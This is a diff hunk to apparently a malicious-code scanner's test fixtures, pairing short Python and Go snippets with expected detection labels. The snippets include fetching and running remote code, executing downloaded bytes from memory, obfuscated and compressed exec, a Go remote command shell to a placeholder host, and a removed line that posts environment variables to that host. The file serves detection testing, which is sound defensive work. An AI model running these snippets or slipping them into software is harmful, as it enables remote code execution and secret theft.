@@ -34,7 +34,6 @@ SAID = [
     ("x.py", "import threading, os\nclass T(threading.Thread):\n    def run(self):\n        os.system('id')\nT().start()", "process.exec id"),
     ("x.py", "import urllib.request, sys\nurllib.request.urlretrieve('https://a.b.c/m.py', '/tmp/x/mod_m.py')\nsys.path.insert(0, '/tmp/x')\nimport mod_m", RUNS),
     ("x.py", "import requests, mmap, ctypes\nc = requests.get('https://a.b.c').content\nb = mmap.mmap(-1, len(c))\nb.write(c)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()", RUNS),
-    ("x.py", "import os, requests, sys\ndef f(a, b, c):\n    requests.post('https://a.b.c', json=dict(os.environ))\nsys.excepthook = f", ENV),
     ("x.py", "t = str.maketrans('bcd', 'abc')\nexec('jnqpsu pt'.translate(str.maketrans('jnqpsut', 'imports')))", "code.eval exec"),
     ("x.py", "import lzma, binascii, os\nd = lzma.LZMADecompressor()\nexec(d.decompress(binascii.a2b_hex(open('x').read())))", "code.decode lzma"),
     ("x.go", 'package a\nfunc init() { c, _ := net.Dial("tcp", "a.b.c:4"); s := bufio.NewScanner(c); exec.Command("/bin/sh", "-c", s.Text()).Run() }',
